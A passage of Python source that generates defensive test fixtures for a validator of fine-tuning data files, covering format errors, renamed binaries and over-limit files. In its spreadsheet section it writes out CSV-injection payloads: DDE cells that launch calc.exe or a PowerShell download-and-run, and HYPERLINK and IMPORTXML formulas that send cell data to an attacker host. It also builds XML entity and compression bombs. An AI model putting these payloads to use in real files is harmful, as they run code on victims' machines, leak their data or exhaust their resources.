    put(nm, [chat(x) for x in qa(rnd(nm), 14)], "vertex", B, D, "OpenAI chat rows for Vertex")
    nm = "format-sharegpt-to-fireworks.jsonl"
    put(nm, [sharegpt(x) for x in support(rnd(nm), 14)], "fireworks", B, D, "ShareGPT rows for Fireworks")
    nm = "format-prompt-completion-to-openai.jsonl"
    put(nm, [pc(x) for x in support(rnd(nm), 14)], "openai", B, D, "Legacy prompt/completion rows for a chat model", None, accept=["BLOCK", "WARN"])
    nm = "format-trl-dpo-to-openai.jsonl"
    r = rnd(nm)
    put(nm, [dpo_trl(x, r) for x in support(r, 14)], "openai", B, D, "prompt/chosen/rejected pairs for OpenAI, which wants input/preferred_output")

    def one(nm, target, what, f, gen=support, ren=chat, k=1, **kw):
        r = rnd(nm)
        objs = [ren(x) for x in gen(r, N)]
        ix = at(r, N, k)
        for i in ix:
            v = f(objs[i])
            if v is not None:
                objs[i] = v
        put(nm, jl(objs), target, B, D, what, ln(ix), **kw)
    one("format-model-role.jsonl", "openai", "Role model (Gemini habit) in OpenAI messages", lambda o: o["messages"][-1].update(role="model"), k=3, **A)
    one("format-assistant-role-vertex.jsonl", "vertex", "Role assistant in Vertex contents", lambda o: o["contents"][-1].update(role="assistant"), ren=vertex, k=3, **A)
    one("format-one-sharegpt-row.jsonl", "openai", "One row of another tool (ShareGPT) was mixed in", lambda o: {"conversations": [{"from": {"user": "human", "assistant": "gpt"}.get(m["role"], "system"), "value": m["content"]} for m in o["messages"]]})
    one("format-content-number.jsonl", "azure", "Content is a number rather than a string", lambda o: o["messages"][-1].update(content=4), gen=label)
    one("format-weight-half.jsonl", "openai", "weight 0.5 where only 0 or 1 is allowed", lambda o: o["messages"][-1].update(weight=0.5))
    one("format-row-is-list.jsonl", "together", "A row is a bare list of messages", lambda o: o["messages"], gen=qa)
    one("format-messages-as-string.jsonl", "openai", "messages was serialised twice and is a string", lambda o: {"messages": json.dumps(o["messages"])}, k=2)
    one("format-vertex-parts-string.jsonl", "vertex", "parts is a string, not a list of objects", lambda o: o["contents"][0].update(parts=o["contents"][0]["parts"][0]["text"]), ren=vertex)
    one("format-mistyped-content-key.jsonl", "fireworks", "Key contents instead of content in one message", lambda o: o["messages"][1].update(contents=o["messages"][1].pop("content")))
    nm = "format-wrong-columns.csv"
    put(nm, table(["Ticket", "Dauer", "Wert"], [[i * 7, (i * 37) % 211, (i * i) % 9973] for i in range(4001, 4025)]), "local", B, D, "A sheet with no text columns at all", None, accept_defect=[D, "empty target"])


def binary():
    D = "empty, binary or undecodable files"
    mk = lambda nm: enc(jl([chat(x) for x in support(rnd(nm), N)]))
    nm = "binary-gzip-renamed.jsonl"
    put(nm, gzip.compress(mk(nm), mtime=0), "openai", B, D, "gzip renamed to .jsonl")
    nm = "binary-zip-renamed.jsonl"
    put(nm, zipped({"train.jsonl": mk(nm)}), "together", B, D, "zip renamed to .jsonl")
    nm = "binary-zip-not-workbook.xlsx"
    put(nm, zipped({"train.csv": "prompt,completion\nWhere is the key,At reception\n", "readme.txt": "export"}), "local", B, D, "An ordinary zip named .xlsx")
    nm = "binary-gzip-bomb.jsonl"
    put(nm, gzip.compress(b'{"messages": []}\n' * 300_000, mtime=0), "openai", B, D, "gzip that grows about 300 times, 5 MB inside")
    nm = "binary-xlsx-entities.xlsx"
    dt = '<!DOCTYPE sst [<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)) + "]>"
    put(nm, xlsx([["prompt", "completion"]] + [[x.u, x.a] for x in qa(rnd(nm), 20)] + [["&lol9;", "ok then, noted"]], pre=dt), "local", B, D, "Shared strings with nested XML entities (billion laughs)")
    nm = "binary-password.xlsx"
    put(nm, ole_encrypted(rnd(nm)), "local", B, D, "Password-protected workbook (OLE container with EncryptedPackage)")
    nm = "binary-zip-encrypted.csv"
    z = bytearray(zipped({"train.csv": bytes(rnd(nm).randrange(256) for _ in range(2000))}))
    z[6] |= 1
    k = z.find(b"PK\x01\x02")
    z[k + 8] |= 1
    put(nm, bytes(z), "local", B, D, "Encrypted zip renamed to .csv")
    nm = "binary-pdf.csv"
    put(nm, b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\nstream\n" + bytes(rnd(nm).randrange(256) for _ in range(900)) + b"\nendstream\ntrailer<</Root 1 0 R>>\n%%EOF\n", "local", B, D, "A PDF renamed to .csv")
    nm = "binary-legacy-xls.xlsx"
    put(nm, bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + bytes(rnd(nm).randrange(256) for _ in range(3000)), "local", B, D, "Damaged legacy .xls renamed to .xlsx")


def ole_encrypted(r):
    """A small but well-formed OLE file with the two streams of an encrypted workbook."""
    S = 512
    info, pack = bytes(r.randrange(256) for _ in range(4096)), bytes(r.randrange(256) for _ in range(8192))
    n1, n2 = len(info) // S, len(pack) // S
    fat = [0xFFFFFFFD, 0xFFFFFFFE]
    fat += [len(fat) + i + 1 for i in range(n1 - 1)] + [0xFFFFFFFE]
    s2 = len(fat)
    fat += [s2 + i + 1 for i in range(n2 - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))

    def ent(name, typ, start, size, left=-1, right=-1, child=-1):
        b = name.encode("utf-16-le") + b"\0\0"
        return b.ljust(64, b"\0") + struct.pack("<HBBiii", len(b) if name else 0, typ, 1, left, right, child) + bytes(36) + struct.pack("<IQ", start & 0xFFFFFFFF, size)
    d = ent("Root Entry", 5, 0xFFFFFFFE, 0, child=1) + ent("EncryptionInfo", 2, 2, len(info), right=2) + ent("EncryptedPackage", 2, s2, len(pack)) + ent("", 0, 0, 0)
    h = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    h += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    assert len(h) == S and len(d) == S, (len(h), len(d))
    return h + struct.pack("<128I", *fat) + d + info + pack


def sheets():
    D = "spreadsheets with formulas / CSV injection"
    nm = "sheet-hyperlink-formula.xlsx"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in support(r, 52)]
    rows[12][1] = F('HYPERLINK("http://files.example.com/?d="&A3,"Open the guide")', "Open the guide")
    rows[30][1] = F('A31&" as discussed"', rows[29][0] + " as discussed")
    put(nm, xlsx([["prompt", "completion"]] + rows), "local", B, D, "Answers that are formulas with stored values, one sending a cell to a web address", [14, 32], lines_are="sheet rows, header = 1", accept=["BLOCK", "WARN"])
    nm = "sheet-external-link.xlsx"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in qa(r, 52)]
    rows[8][0] = F("'[prices 2026.xlsx]Sheet1'!$B$4", "#REF!")
    put(nm, xlsx([["prompt", "completion"]] + rows), "local", B, D, "A question is a link to another workbook and shows #REF!", [10], lines_are="sheet rows, header = 1", accept=["BLOCK", "WARN"])
    nm = "csv-injection-dde.csv"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in support(r, 52)]
    rows[17][0] = "=cmd|' /C calc.exe'!A0"
    rows[34][0] = '@SUM(1+9)*cmd|\' /C powershell IEX(wget example.com/p)\'!A0'
    put(nm, table(["prompt", "completion"], rows), "local", B, D, "CSV cells that start a program when opened in a spreadsheet", [19, 36], lines_are="text lines, header = 1", accept=["BLOCK", "WARN"])
    nm = "csv-injection-plus-tab.csv"
    r = rnd(nm)
    rows = [[x.u, x.a] for x in qa(r, 52)]
    rows[5][1] = '\t=HYPERLINK("http://evil.example.net/c?x="&A1&A2,"see handbook")'
    rows[44][1] = '+IMPORTXML(CONCAT("http://evil.example.net/?v=",A2),"//a")'
    put(nm, table(["question", "answer"], rows), "local", B, D, "Injection hidden behind a leading tab and a plus sign", [7, 46], lines_are="text lines, header = 1", accept=["BLOCK", "WARN"])


# ------------------------------------------------------------------ made at test time
def _big(name, target_tokens_text, render, out, row_at=9, n=20):
    r = rnd(name)
    rows = support(r, n)
    rows[row_at] = target_tokens_text(r, rows[row_at])
    write(os.path.dirname(out), os.path.basename(out), [render(x) for x in rows])


def _prose(r, words):
    bank = [s for v in T.CORES.values() for q, a in v for s in (q, a)] + T.DECISIONS + T.ACTIONS + T.RISKS
    o, c = [], 0
    while c < words:
        s = cap(r.choice(bank)) + "."
        o.append(s)
        c += s.count(" ") + 1
    return " ".join(o)


def gen_openai_long_row(out):
    _big("g1", lambda r, x: Row(x.system, [("user", "Sum up this log: " + _prose(r, 80_000)), ("assistant", x.a)]), chat, out)


def gen_azure_long_conversation(out):
    def f(r, x):
        t = []
        for _ in range(400):
            t += [("user", _prose(r, 110)), ("assistant", _prose(r, 110))]
        return Row(x.system, t)
    _big("g2", f, chat, out)


def gen_openai_long_cjk(out):
    bank = "請求書人数実際多荷物木曜日動更新許可消端末設定学校割引公的書類送配送読取漏明日午前届席外差額戻"
    _big("g3", lambda r, x: Row(x.system, [("user", "".join(r.choices(bank, k=160_000))), ("assistant", x.a)]), chat, out)


def gen_vertex_long_row(out):
    _big("g4", lambda r, x: Row(x.system, [("user", _prose(r, 190_000)), ("assistant", x.a)]), vertex, out)


def gen_local_long_row(out):
    _big("g5", lambda r, x: Row(x.system, [("user", _prose(r, 220_000)), ("assistant", x.a)]), sharegpt, out)


def _bigfile(name, out, size):
    r = rnd(name)
    rows = jl([chat(x) for x in support(r, 70)])
    with open(out, "wb") as fh:
        i = n = 0
        while n < size:
            b = "".join(l.replace('"content": "', f'"content": "{r.randrange(10**9)} ', 3) + "\n" for l in rows).encode() if i % 50 == 0 else b
            fh.write(b)
            n += len(b)
            i += 1


def gen_openai_file_over_512mb(out):
    _bigfile("g6", out, 513 * 1024 * 1024)


def gen_azure_file_over_512mb(out):
    _bigfile("g7", out, 513 * 1024 * 1024)


def gen_xlsx_bomb(out):
    with open(out, "wb") as fh:
        fh.write(xlsx([["prompt", "completion"]] + [[x.u, x.a] for x in qa(rnd("g8"), 20)], pad=b" " * 200_000_000))


def overlimit():
    D = "row or file over the target's limit"
    for nm, t, g, what, lines, kw in [
        ("limit-openai-long-row.jsonl", "openai", "gen_openai_long_row", "One row of about 100,000 tokens (limit 65,536)", [10], {}),
        ("limit-azure-long-conversation.jsonl", "azure", "gen_azure_long_conversation", "800 turns, none long, together above 100,000 tokens", [10], {}),
        ("limit-openai-cjk.jsonl", "openai", "gen_openai_long_cjk", "160,000 ideographs without spaces: few words, many tokens", [10], {}),
        ("limit-vertex-long-row.jsonl", "vertex", "gen_vertex_long_row", "One row of about 240,000 tokens (limit 131,072)", [10], {}),
        ("limit-local-truncated.jsonl", "local", "gen_local_long_row", "A prompt longer than any small local context, the answer would be cut off", [10], {"accept_defect": [D, "zero trainable tokens after the real chat template and mask"]}),
        ("limit-openai-file.jsonl", "openai", "gen_openai_file_over_512mb", "File of 513 MiB (limit 512 MB)", None, {"heavy": True}),
        ("limit-azure-file.jsonl", "azure", "gen_azure_file_over_512mb", "File of 513 MiB (limit 512 MB)", None, {"heavy": True}),
    ]:
        put(nm, None, t, B, D, what, lines, generate=g, **kw)
    put("binary-xlsx-bomb.xlsx", None, "local", B, "empty, binary or undecodable files", "Workbook of 200 KB whose sheet grows to 200 MB of blanks", generate="gen_xlsx_bomb", heavy=True)


def all_block():
    for f in (encoding, notjson, numbers, dupkeys, nul, deep, roles, empty, zero, fewrows, secrets, overlap, mismatch, binary, sheets, overlimit):
        f()
